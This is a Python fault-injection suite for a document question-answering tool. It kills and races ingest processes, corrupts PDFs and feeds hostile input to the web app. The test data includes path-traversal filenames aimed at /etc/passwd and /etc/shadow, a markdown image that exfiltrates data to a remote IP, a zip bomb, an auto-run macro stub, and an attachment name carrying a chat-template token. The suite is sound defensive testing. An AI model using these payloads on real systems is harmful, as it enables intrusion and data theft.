"""`python -m rag.bench faults`: the robustness suite of issue 16, run for real and printed as one table.

Every case does the real thing (a SIGKILL of `python -m rag.ingest` at each injected stage, two ingests at once,
a reader process racing a writer process, 1,000 byte-level corruptions of the messy PDFs parsed in worker
processes, hostile uploads and requests against the real web app) and says whether docqa held: no traceback, a
clear report, the old or the new index intact. "Data lost" counts documents that were indexed (or stored) before
a case and are missing or altered after it; it must be 0. Needs ../shared/data/messy (or --shared).
"""

from __future__ import annotations

import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

from rag.config import load_settings
from rag.errors import UserError

TEXT_PDFS = ("multicolumn_latex_2col.pdf", "table_fbi_nics_2015_11.pdf", "multicolumn_acl_paper.pdf")
REPO = Path(__file__).resolve().parents[2]


@dataclass
class Case:
    group: str
    name: str
    held: bool
    detail: str
    lost: int = 0


class Suite:
    def __init__(self, shared: Path, work: Path, corruptions: int, seed: int, csv_mb: int = 1024):
        self.csv_mb = csv_mb
        self.messy = shared / "messy"
        self.work = work
        self.corruptions = corruptions
        self.seed = seed
        self.cases: list[Case] = []
        self._embeddings = None

    def record(self, group: str, name: str, held: bool, detail: str, lost: int = 0) -> None:
        case = Case(group, name, bool(held), detail, lost)
        self.cases.append(case)
        print(f"  {'held' if case.held else 'FAILED':6} {group}: {name}: {detail}", file=sys.stderr, flush=True)

    def run(self, group: str, name: str, check) -> None:
        """Run one case; an exception escaping it is a failure of docqa (the traceback we must never show)."""
        try:
            check()
        except Exception as exc:  # noqa: BLE001 - recorded as a failed case
            self.record(group, name, False, f"raised {type(exc).__name__}: {str(exc)[:150]}")

    # ------------------------------------------------------------ helpers

    def settings(self, name: str):
        root = self.work / name
        (root / "data").mkdir(parents=True, exist_ok=True)
        return load_settings(data_dir=root / "data", index_dir=root / "index", models_dir=REPO / "models",
                             cache_dir=REPO / ".cache")

    def embeddings(self):
        if self._embeddings is None:
            from rag.index.embeddings import LocalEmbeddings

            self._embeddings = LocalEmbeddings(load_settings(cache_dir=REPO / ".cache"))
        return self._embeddings

    def indexed(self, name: str, files: tuple[str, ...]):
        from rag.ingest.pipeline import ingest

        settings = self.settings(name)
        for file in files:
            shutil.copy(self.messy / file, settings.data_dir / file)
        ingest(settings, progress=False, embeddings=self.embeddings())
        return settings

    def cli_ingest(self, settings, **env) -> subprocess.Popen:
        environment = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "RAG_DATA_DIR": str(settings.data_dir),
                       "RAG_INDEX_DIR": str(settings.index_dir), "RAG_CACHE_DIR": str(settings.cache_dir),
                       "PYTHONPATH": str(REPO), "HF_HUB_OFFLINE": "1", **env}
        return subprocess.Popen([sys.executable, "-m", "rag.ingest"], cwd=REPO, env=environment,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    @staticmethod
    def consistent(index) -> str | None:
        ids = [doc.id for doc in index.chunks]
        if len(ids) != len(set(ids)):
            return "duplicated chunks"
        if index.faiss_index.ntotal != len(index.chunks):
            return f"{index.faiss_index.ntotal} vectors for {len(index.chunks)} chunks"
        if sum(entry.chunks for entry in index.manifest.files.values()) != len(index.chunks):
            return "manifest chunk counts do not match the chunks"
        return None

    def answers(self, settings, index) -> bool:
        from rag.retrieve.hybrid import build_retriever

        retriever = build_retriever(settings.model_copy(update={"k": 2}), index, self.embeddings())
        return bool(retriever.invoke("What does the table report?"))

    # ------------------------------------------------------------ 6 and 7: the index under kills, races, damage

    def kills(self) -> None:
        from rag.ingest.pipeline import ingest
        from rag.index.store import FAULT_ENV, FAULT_STAGES, load_index

        for stage in FAULT_STAGES:
            def check(stage=stage):
                settings = self.indexed(f"kill-{stage}", TEXT_PDFS[:1])
                before = load_index(settings.index_dir)
                shutil.copy(self.messy / TEXT_PDFS[1], settings.data_dir / TEXT_PDFS[1])
                proc = self.cli_ingest(settings, **{FAULT_ENV: stage})
                proc.communicate(timeout=900)
                after = load_index(settings.index_dir)
                problem = self.consistent(after)
                expected = set(TEXT_PDFS[:2]) if stage == "after-switch" else {TEXT_PDFS[0]}
                lost = len(set(before.manifest.files) - set(after.manifest.files))
                ok_now = proc.returncode == -9 and not problem and set(after.manifest.files) == expected
                answered = self.answers(settings, after)
                ingest(settings, progress=False, embeddings=self.embeddings())
                final = load_index(settings.index_dir)
                recovered = set(final.manifest.files) == set(TEXT_PDFS[:2]) and not self.consistent(final)
                leftovers = [p.name for p in settings.index_dir.iterdir() if p.is_dir() and p != final.path]
                self.record("7 kill -9", f"ingest killed at {stage}",
                            ok_now and answered and recovered and not leftovers,
                            f"exit {proc.returncode}; {'new' if after.path != before.path else 'old'} index loads "
                            f"({len(after.chunks)} chunks, {problem or 'consistent'}), answers: {answered}; "
                            f"next ingest: {len(final.manifest.files)} files, leftovers {len(leftovers)}", lost)
            self.run("7 kill -9", f"ingest killed at {stage}", check)

    def concurrent_ingests(self) -> None:
        from rag.index.store import load_index

        def check():
            settings = self.indexed("concurrent", TEXT_PDFS[:1])
            for file in TEXT_PDFS[1:]:
                shutil.copy(self.messy / file, settings.data_dir / file)
            first, second = self.cli_ingest(settings), self.cli_ingest(settings)
            outputs = [proc.communicate(timeout=900) for proc in (first, second)]
            codes = sorted(proc.returncode for proc in (first, second))
            refused = any("another ingest is running" in err for _, err in outputs)
            tracebacks = any("Traceback" in err for _, err in outputs)
            index = load_index(settings.index_dir)
            problem = self.consistent(index)
            lost = len(set(TEXT_PDFS) - set(index.manifest.files))
            self.record("6 races", "two ingests at once",
                        not tracebacks and not problem and lost == 0 and codes in ([0, 0], [0, 1]),
                        f"exit codes {codes}; {'one refused (lock)' if refused else 'ran one after the other'}; "
                        f"index {len(index.manifest.files)} files, {problem or 'consistent'}", lost)
        self.run("6 races", "two ingests at once", check)

    def reader_during_swaps(self) -> None:
        from rag.index.store import load_index

        def check():
            settings = self.indexed("swap", TEXT_PDFS[:2])
            writer = subprocess.Popen(
                [sys.executable, "-c", _SWAPPER, str(settings.index_dir), "25"], cwd=REPO,
                env={**os.environ, "PYTHONPATH": str(REPO)}, stderr=subprocess.PIPE, text=True)
            reads, errors, swaps_seen = 0, [], set()
            while writer.poll() is None or reads == 0:
                try:
                    index = load_index(settings.index_dir)
                    reads += 1
                    swaps_seen.add(index.path.name)
                    if self.consistent(index):
                        errors.append(self.consistent(index))
                except Exception as exc:  # noqa: BLE001 - counted
                    errors.append(f"{type(exc).__name__}: {exc}")
            _, writer_err = writer.communicate()
            index = load_index(settings.index_dir)
            lost = len(set(TEXT_PDFS[:2]) - set(index.manifest.files))
            self.record("6 races", "a reader during 25 swaps", not errors and writer.returncode == 0 and lost == 0,
                        f"{reads} loads saw {len(swaps_seen)} versions; errors {len(errors)}"
                        + (f" (first: {errors[0][:80]})" if errors else "")
                        + (f"; writer failed: {writer_err[-200:]}" if writer.returncode else ""), lost)
        self.run("6 races", "a reader during 25 swaps", check)

    def damaged_index(self) -> None:
        from rag.index.store import CHUNKS, MANIFEST, VECTORS, load_index

        def truncate(path: Path) -> None:
            path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])

        damages = {
            f"truncated {CHUNKS}": (CHUNKS, lambda v: truncate(v / CHUNKS)),
            f"truncated {VECTORS}": (VECTORS, lambda v: truncate(v / VECTORS)),
            "manifest from a future version": (MANIFEST, lambda v: (v / MANIFEST).write_text(
                json.dumps({**json.loads((v / MANIFEST).read_text()), "format": 99}))),
        }
        base = self.indexed("damage-base", TEXT_PDFS[:1])
        for name, (file, damage) in damages.items():
            def check(name=name, file=file, damage=damage):
                settings = self.settings(f"damage-{file}")
                shutil.rmtree(settings.index_dir, ignore_errors=True)
                shutil.copytree(base.index_dir, settings.index_dir)
                damage(load_index(settings.index_dir).path)
                try:
                    load_index(settings.index_dir)
                    message = ""
                except UserError as exc:
                    message = str(exc)
                held = file in message and "--rebuild" in message and "\n" not in message
                self.record("6 damaged index", name, held, f"error: {message[-110:]}" if message else "no error")
            self.run("6 damaged index", name, check)

    # ------------------------------------------------------------ 5: corrupted PDFs in worker processes

    def corrupted_pdfs(self) -> None:
        from rag.ingest.sandbox import ParseLimits, ParserWorker

        def check():
            sources = sorted(p for p in self.messy.glob("*.pdf") if p.stat().st_size > 0)
            rng = random.Random(self.seed)
            folder = self.work / "corrupt"
            folder.mkdir(exist_ok=True)
            outcomes = {"parsed": 0, "reported as failed": 0, "time limit": 0, "worker died": 0}
            unreported = 0
            started = time.perf_counter()
            lock = threading.Lock()
            jobs = list(range(self.corruptions))

            def work(slot: int) -> None:
                nonlocal unreported
                with ParserWorker(ParseLimits(seconds=10, memory_mb=2048, pages=3)) as worker:
                    while True:
                        with lock:
                            if not jobs:
                                return
                            number = jobs.pop()
                            source = rng.choice(sources)
                            data = corrupt(source.read_bytes(), rng)
                        path = folder / f"{slot}.pdf"
                        path.write_bytes(data)
                        result = worker.parse(path)
                        with lock:
                            if result.error is None and result.page_count:
                                outcomes["parsed"] += 1
                            elif result.error and "longer than" in result.error:
                                outcomes["time limit"] += 1
                            elif result.error and "process" in result.error:
                                outcomes["worker died"] += 1
                            elif result.error:
                                outcomes["reported as failed"] += 1
                            else:
                                unreported += 1
                            del number

            threads = [threading.Thread(target=work, args=(slot,)) for slot in range(2)]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
            seconds = time.perf_counter() - started
            summary = ", ".join(f"{count} {label}" for label, count in outcomes.items())
            self.record("5 corrupted PDFs", f"{self.corruptions} byte-level corruptions of {len(sources)} messy PDFs",
                        unreported == 0 and sum(outcomes.values()) == self.corruptions,
                        f"{summary}; {unreported} unreported; {seconds:.0f} s in 2 worker processes")
        self.run("5 corrupted PDFs", "byte-level corruptions", check)

    # ------------------------------------------------------------ issue 28: bad input in other formats

    def bad_formats(self) -> None:
        """The bad inputs of issue 28 ingested beside one good file of each format, parsed in the sandbox as uploads
        are: each bad one fails (or is cut) with a one-line reason, every good one is indexed, nothing is written
        outside the index; then a `csv_mb` CSV is parsed in a limited worker, streamed to the row cap."""
        from rag.bench.formats import make_corpus
        from rag.ingest.formats.common import MAX_TABLE_ROWS
        from rag.ingest.pipeline import ingest
        from rag.ingest.sandbox import ParseLimits, ParserWorker

        def check():
            settings = self.settings("formats")
            cases = make_corpus(settings.data_dir)
            bad = write_bad_inputs(settings.data_dir)
            before = sorted(str(p) for p in self.work.rglob("*") if "index" not in p.parts)
            summary = ingest(settings, progress=False, embeddings=self.embeddings(),
                             limits=ParseLimits(seconds=60, memory_mb=2048))
            after = sorted(str(p) for p in self.work.rglob("*") if "index" not in p.parts)
            failed = {item.source: item.reason or "" for item in summary.failed}
            wrong = [name for name, phrase in bad.items() if phrase not in failed.get(name, "")
                     or "\n" in failed.get(name, "")]
            indexed = {item.source for item in summary.files if item.status == "added"}
            missing = [case.name for case in cases if case.name not in indexed]
            self.record("28 bad input", f"{len(bad)} bad files beside {len(cases)} good ones of every format",
                        not wrong and not missing and before == after and "macros.xlsm" in indexed,
                        f"{len(failed)} failed with one-line reasons ({'; '.join(sorted(set(failed.values())))[:160]}"
                        f"...); {len(indexed)} indexed; wrong: {wrong or 'none'}; not indexed: {missing or 'none'}; "
                        f"files written outside the index: {len(set(after) - set(before))}")

        def huge_csv():
            path = self.work / "huge.csv"
            line = b"1234567,Customer name here,12345.67,2024-01-01,some free text in the last column\n"
            with open(path, "wb") as handle:
                handle.write(b"id,name,amount,date,note\n")
                block = line * (2**20 // len(line))
                for _ in range(self.csv_mb):
                    handle.write(block)
            started = time.perf_counter()
            with ParserWorker(ParseLimits(seconds=120, memory_mb=1024)) as worker:
                result = worker.parse(path)
            seconds = time.perf_counter() - started
            cut = [p for p in result.problems if f"first {MAX_TABLE_ROWS:,} rows" in p]
            self.record("28 bad input", f"a {self.csv_mb:,} MB CSV in a 1 GB worker",
                        result.error is None and bool(cut) and result.pages,
                        f"{len(result.pages)} units; {cut[0] if cut else result.error}; {seconds:.1f} s")
            path.unlink()

        self.run("28 bad input", "bad files of every format", check)
        self.run("28 bad input", "huge CSV", huge_csv)

    def corrupted_formats(self) -> None:
        """Byte-level corruptions of one generated file per non-PDF format, parsed in limited workers: every one
        parses or fails with a reason; a reader that raises (caught by the worker as "parser failed") is a failure."""
        from rag.bench.formats import make_corpus
        from rag.ingest.sandbox import ParseLimits, ParserWorker

        def check():
            folder = self.work / "format-sources"
            sources = [folder / case.name for case in make_corpus(folder, image=False)]
            rng = random.Random(self.seed)
            outcomes = {"parsed": 0, "reported as failed": 0, "time limit": 0, "worker died": 0, "raised": 0}
            raised: list[str] = []
            started = time.perf_counter()
            target = self.work / "corrupt-formats"
            target.mkdir(exist_ok=True)
            with ParserWorker(ParseLimits(seconds=10, memory_mb=2048)) as worker:
                for number in range(self.corruptions // 4):
                    source = rng.choice(sources)
                    path = target / f"{number % 2}{source.suffix}"
                    path.write_bytes(corrupt(source.read_bytes(), rng))
                    result = worker.parse(path)
                    if result.error is None:
                        outcomes["parsed"] += 1
                    elif "longer than" in result.error:
                        outcomes["time limit"] += 1
                    elif result.error.startswith("parser failed"):
                        outcomes["raised"] += 1
                        raised.append(f"{source.suffix}: {result.error[:80]}")
                    elif "process" in result.error:
                        outcomes["worker died"] += 1
                    else:
                        outcomes["reported as failed"] += 1
            summary = ", ".join(f"{count} {label}" for label, count in outcomes.items())
            self.record("28 corrupted formats", f"{self.corruptions // 4} corruptions of {len(sources)} formats",
                        not raised and not outcomes["worker died"],
                        f"{summary}; {time.perf_counter() - started:.0f} s" + (f"; {raised[:2]}" if raised else ""))
        self.run("28 corrupted formats", "byte-level corruptions", check)

    # ------------------------------------------------------------ 2, 3, 4, 5: the web UI and uploads

    def web(self) -> None:
        from rag.ingest.uploads import resolve_data_file, store_uploads

        settings = self.indexed("web", TEXT_PDFS[:1])
        data = settings.data_dir
        original = (data / TEXT_PDFS[0]).read_bytes()
        good = self.messy / TEXT_PDFS[1]
        incoming = self.work / "incoming"
        incoming.mkdir(exist_ok=True)

        hostile_names = ["../../etc/passwd.pdf", "..\\..\\windows\\system32.pdf", "/etc/cron.d/job.pdf",
                         "a\x00b.pdf", "re\nport\r.pdf", "\x1b[31mred.pdf", "tab\tname.pdf", "\u202egnp.pdf",
                         "....pdf", "x" * 400 + ".pdf"]
        for name in hostile_names:
            def check(name=name):
                stored, rejected = store_uploads([(good, name)], data, 10**8)
                inside = all(path.parent == data.resolve() for path in stored)
                clean = all(path.name.isprintable() and "/" not in path.name for path in stored)
                outcome = f"stored as {stored[0].name[:40]!r}" if stored else f"refused: {rejected[0].reason}"
                self.record("4 uploads", f"name {name[:30]!r}", inside and clean and (stored or rejected), outcome)
                for path in stored:
                    if path.name != TEXT_PDFS[0]:
                        path.unlink()
            self.run("4 uploads", f"name {name[:30]!r}", check)

        fakes = {"HTML page named .pdf": b"<html><img src=http://x/></html>", "ELF binary": b"\x7fELF" + b"\0" * 64,
                 "zip archive": b"PK\x03\x04" + b"\0" * 64, "empty file": b""}
        for name, content in fakes.items():
            def check(name=name, content=content):
                path = incoming / "fake.pdf"
                path.write_bytes(content)
                stored, rejected = store_uploads([(path, "fake.pdf")], data, 10**8)
                self.record("4 uploads", f"non-PDF: {name}", not stored and rejected,
                            f"refused: {rejected[0].reason}" if rejected else "STORED")
            self.run("4 uploads", f"non-PDF: {name}", check)

        def oversized():
            stored, rejected = store_uploads([(good, "big.pdf")], data, max_bytes=good.stat().st_size - 1)
            self.record("4 uploads", "oversized", not stored and rejected,
                        f"refused: {rejected[0].reason}" if rejected else "STORED")
        self.run("4 uploads", "oversized", oversized)

        def same_name():
            notes: list[str] = []
            stored, _ = store_uploads([(good, TEXT_PDFS[0])], data, 10**8, notes)
            kept = (data / TEXT_PDFS[0]).read_bytes() == original
            self.record("4 uploads", "same name, other content", kept and stored and stored[0].name != TEXT_PDFS[0],
                        notes[0] if notes else "no note", lost=0 if kept else 1)
            for path in stored:
                path.unlink()
        self.run("4 uploads", "same name, other content", same_name)

        (self.work / "secret.pdf").write_bytes(b"%PDF-1.4 secret")
        link = data / "link.pdf"
        if not link.exists():
            link.symlink_to(self.work / "secret.pdf")
        for relative in ("../secret.pdf", "../../etc/passwd", "..%2fsecret.pdf", "link.pdf", "a\x00.pdf",
                         "/etc/passwd"):
            def check(relative=relative):
                resolved = resolve_data_file(data, relative)
                self.record("4 PDF route", f"/pdf/{relative!r}", resolved is None, "refused (404)" if resolved is None
                            else f"SERVED {resolved}")
            self.run("4 PDF route", f"/pdf/{relative!r}", check)
        link.unlink()

        def slow_upload():
            from rag.web.engine import Engine

            engine = Engine(settings.model_copy(update={"upload_parse_seconds": 0.5}))
            engine.embeddings = self.embeddings()
            engine.reload_index()
            summary, _ = engine.add_pdfs([(self.messy / "long_392p_cvs_10k_2018.pdf", "long.pdf")], 10**8)
            failed = [item.reason for item in summary.files if item.status == "failed"]
            held = bool(failed) and "longer than" in failed[0] and set(engine.index.manifest.files) >= {TEXT_PDFS[0]}
            self.record("5 upload worker", "392-page upload over a 0.5 s parse limit", held,
                        f"FAILED long.pdf: {failed[0]}" if failed else "parsed in this process")
            (data / "long.pdf").unlink(missing_ok=True)
        self.run("5 upload worker", "parse time limit", slow_upload)

        self.web_app(settings)

    def web_app(self, settings) -> None:
        from fastapi.testclient import TestClient

        from rag.web.__main__ import is_loopback
        from rag.web.app import build_app
        from rag.web.engine import Engine
        from rag.web.ui import inert_markdown

        engine = Engine(settings)

        def csp():
            client = TestClient(build_app(engine, max_upload_bytes=10**6))
            policy = client.get("/").headers.get("content-security-policy", "")
            evil = "![x](http://203.0.113.9/?q=secret) [y](http://203.0.113.9/) <img src=http://a/b>"
            shown = inert_markdown(evil)
            self.record("2 remote requests", "CSP and inert answers",
                        "default-src 'self'" in policy and "http" not in policy and "://" not in shown,
                        f"CSP {policy[:40]}...; answer shown as {shown[:40]}...")
        self.run("2 remote requests", "CSP and inert answers", csp)

        def token():
            client = TestClient(build_app(engine, max_upload_bytes=10**6, token="t0ken"))
            codes = [client.get(path).status_code for path in ("/", f"/pdf/{TEXT_PDFS[0]}", "/?token=guess")]
            entered = client.get("/?token=t0ken", follow_redirects=False).status_code
            after = client.get(f"/pdf/{TEXT_PDFS[0]}").status_code
            guarded = not is_loopback("0.0.0.0") and is_loopback("127.0.0.1") and is_loopback("::1")
            self.record("4 binding", "token beyond loopback", codes == [401] * 3 and entered == 303 and after == 200
                        and guarded, f"without token {codes}, with it {entered} then {after}")
        self.run("4 binding", "token beyond loopback", token)

        def models():
            refused = []
            for value in ("/etc/passwd", "../../../../etc/shadow", str(REPO / "pyproject.toml")):
                try:
                    engine.model_path(value)
                except UserError as exc:
                    refused.append("not one of the models offered" in str(exc))
            self.record("3 model box", "paths typed into the Model box", refused == [True] * 3
                        and not engine.loaded_backends(), f"{sum(refused)}/3 refused, none loaded; offered: "
                        f"{engine.model_choices()[1:]}")
        self.run("3 model box", "arbitrary paths", models)

    # ------------------------------------------------------------ 1, 8, 9, 10

    def plumbing(self) -> None:
        def json_stdout():
            script = ("import json, os, subprocess\nfrom rag.cli import stdout_to_stderr\nwith stdout_to_stderr():\n"
                      "    print('progress'); os.write(1, b'native\\n'); subprocess.run(['echo', 'child'])\n"
                      "print(json.dumps({'ok': 1}))\n")
            run = subprocess.run([sys.executable, "-c", script], cwd=REPO, capture_output=True, text=True,
                                 env={**os.environ, "PYTHONPATH": str(REPO)})
            self.record("1 --json", "progress from python, native code, a child", run.stdout.strip() == '{"ok": 1}',
                        f"stdout {run.stdout.strip()!r}")
        self.run("1 --json", "stdout", json_stdout)

        def spawn():
            import rag.ingest.engines.local as local

            settings = self.settings("spawn")
            files = [shutil.copy(self.messy / name, settings.data_dir / name) for name in TEXT_PDFS[:2]]
            real = local.read_document
            local.read_document = None  # a forked child would inherit this and fail
            try:
                parsed = local.parse_files([Path(f) for f in files], None, workers=2, progress=False)
            finally:
                local.read_document = real
            self.record("8 spawn", "parser processes start clean", all(r.pages for r in parsed),
                        f"{sum(len(r.pages) for r in parsed)} pages parsed by spawned workers")
        self.run("8 spawn", "parser processes", spawn)

        def retriever_reload():
            from rag.ingest.pipeline import ingest
            from rag.web.engine import Engine

            settings = self.indexed("reload", TEXT_PDFS[:1])
            engine = Engine(settings)
            engine.embeddings = self.embeddings()
            engine.reload_index()
            first = engine.answerer(k=3).retriever
            same = engine.answerer(k=3).retriever is first
            shutil.copy(self.messy / TEXT_PDFS[1], settings.data_dir / TEXT_PDFS[1])
            ingest(settings, progress=False, embeddings=self.embeddings())
            after = engine.answerer(k=3).retriever
            self.record("9 web retriever", "built once, reloaded after a CLI ingest",
                        same and after is not first and len(after.index.manifest.files) == 2,
                        f"same object between questions: {same}; after ingest: {len(after.index.manifest.files)} files")

            from langchain_core.runnables import RunnableLambda

            from rag.answer.lcel import as_langchain_retriever

            chain = as_langchain_retriever(after) | RunnableLambda(lambda docs: sorted({d.metadata["source"] for d in docs}))
            found = chain.invoke("What does the table report?")
            self.record("10 LangChain", "LCEL chain over docqa's retriever", bool(found), f"sources {found}")
        self.run("9 web retriever", "reload", retriever_reload)

    def all(self, web: bool = True) -> list[Case]:
        self.plumbing()
        self.damaged_index()
        self.reader_during_swaps()
        self.concurrent_ingests()
        self.kills()
        if web:
            self.web()
        self.corrupted_pdfs()
        self.bad_formats()
        self.corrupted_formats()
        return self.cases


# A writer process: rewrites the index as new versions, as fast as it can (each swap deletes the old version).
_SWAPPER = """
import sys
from pathlib import Path
from rag.index.store import IndexData, load_index, write_index
index_dir, count = Path(sys.argv[1]), int(sys.argv[2])
for _ in range(count):
    data = load_index(index_dir)
    write_index(index_dir, IndexData(manifest=data.manifest, chunks=data.chunks, vectors=data.get_vectors()))
"""


def zipped(members: dict[str, bytes]) -> bytes:
    """A zip archive in memory holding `members` (name -> bytes)."""
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def write_bad_inputs(folder: Path) -> dict[str, str]:
    """The bad inputs of issue 28 as files in `folder` (corrupt zip, zip bomb, password-protected workbook, a
    workbook with macros, hostile HTML, an e-mail with a hostile attachment name); name -> a phrase of its reason."""
    import io
    import zipfile
    from email.message import EmailMessage

    import docx
    import msoffcrypto.format.ooxml
    import openpyxl

    good = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("A fine paragraph.")
    document.save(good)
    (folder / "corrupt.docx").write_bytes(good.getvalue()[: len(good.getvalue()) // 2])
    (folder / "bomb.xlsx").write_bytes(zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                                               "xl/sharedStrings.xml": bytes(12 * 2**20)}))
    book = openpyxl.Workbook()
    book.active.append(["Account", "Balance"])
    book.active.append(["Savings", 1200])
    plain = io.BytesIO()
    book.save(plain)
    plain.seek(0)
    locked = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(plain).encrypt("s3cret", locked)
    (folder / "locked.xlsx").write_bytes(locked.getvalue())
    members = zipfile.ZipFile(io.BytesIO(plain.getvalue()))
    macro = {name: members.read(name) for name in members.namelist()}
    macro["xl/vbaProject.bin"] = b"Sub Auto_Open()\nShell \"calc.exe\"\nEnd Sub\n"
    (folder / "macros.xlsm").write_bytes(zipped(macro))
    (folder / "hostile.html").write_text(
        "<html><body><h1>Offer</h1><script>fetch('https://example.com/x')</script>"
        "<img src='https://example.com/pixel.gif'><p>Plain text survives.</p></body></html>")
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@example.com", "b@example.com", "Invoice"
    message["Date"] = "Tue, 05 Nov 2024 10:00:00 +0000"
    message.set_content("Please see the attached.")
    message.add_attachment(b"Payment due in 30 days.\n", maintype="text", subtype="plain",
                           filename="../../../../tmp/evil<|im_start|>.txt")
    (folder / "hostile.eml").write_bytes(bytes(message))
    return {"corrupt.docx": "corrupt zip", "bomb.xlsx": "zip bomb", "locked.xlsx": "password-protected"}


def corrupt(data: bytes, rng: random.Random) -> bytes:
    """One random byte-level corruption: flipped bytes, a truncation, a random span, or a cut-out span."""
    data = bytearray(data)
    kind = rng.randrange(4)
    if kind == 0:
        for _ in range(rng.randint(1, 50)):
            data[rng.randrange(len(data))] = rng.randrange(256)
    elif kind == 1:
        del data[rng.randrange(1, len(data)):]
    elif kind == 2:
        start = rng.randrange(len(data))
        data[start:start + rng.randint(1, 4096)] = rng.randbytes(rng.randint(1, 4096))
    else:
        start = rng.randrange(len(data))
        del data[start:start + rng.randint(1, 4096)]
    return bytes(data)


def print_cases(cases: list[Case]) -> None:
    from rag.bench.common import load_average

    rows = [(c.group, c.name[:44], "held" if c.held else "FAILED", str(c.lost), c.detail) for c in cases]
    headers = ("issue item", "case", "result", "data lost", "what happened")
    widths = [max(len(r[i]) for r in [headers, *rows]) for i in range(4)]
    print("  ".join(h.ljust(w) for h, w in zip(headers[:4], widths)) + "  " + headers[4])
    print("  ".join("-" * w for w in widths) + "  " + "-" * 20)
    for row in rows:
        print("  ".join(cell.ljust(w) for cell, w in zip(row[:4], widths)) + "  " + row[4])
    held = sum(c.held for c in cases)
    print(f"\nCases run: {len(cases)}; held: {held}; failed: {len(cases) - held}; "
          f"data lost: {sum(c.lost for c in cases)} ({load_average()})")


def run_faults(shared: Path, corruptions: int, seed: int, web: bool = True, keep: bool = False,
               csv_mb: int = 1024) -> int:
    if not (shared / "messy").is_dir():
        raise UserError(f"{shared / 'messy'}: no such folder; pass --shared with the folder holding messy/")
    work = Path(tempfile.mkdtemp(prefix="docqa-faults-"))
    try:
        cases = Suite(shared, work, corruptions, seed, csv_mb).all(web=web)
    finally:
        if not keep:
            shutil.rmtree(work, ignore_errors=True)
    print_cases(cases)
    return 0 if all(c.held for c in cases) and not sum(c.lost for c in cases) else 1


def add_parser(sub) -> None:
    parser = sub.add_parser("faults", help="robustness suite: kills, races, corrupted PDFs, hostile uploads")
    parser.add_argument("--shared", type=Path, default=Path(os.environ.get("DOCQA_SHARED_DATA", "../shared/data")),
                        help="folder holding messy/ (default ../shared/data)")
    parser.add_argument("--corruptions", type=int, default=1000, help="corrupted PDFs to parse (default 1000)")
    parser.add_argument("--seed", type=int, default=16)
    parser.add_argument("--no-web", action="store_true", help="skip the web UI and upload cases")
    parser.add_argument("--csv-mb", type=int, default=1024, help="size of the huge CSV case in MB (default 1024)")
    parser.add_argument("--only", choices=["formats"], help="run only the cases of one issue (formats: issue 28)")
    parser.set_defaults(run=run)


def run(args) -> int:
    if args.only == "formats":
        work = Path(tempfile.mkdtemp(prefix="docqa-faults-"))
        try:
            suite = Suite(args.shared, work, args.corruptions, args.seed, args.csv_mb)
            suite.bad_formats()
            suite.corrupted_formats()
        finally:
            shutil.rmtree(work, ignore_errors=True)
        print_cases(suite.cases)
        return 0 if all(c.held for c in suite.cases) else 1
    return run_faults(args.shared, args.corruptions, args.seed, web=not args.no_web, csv_mb=args.csv_mb)
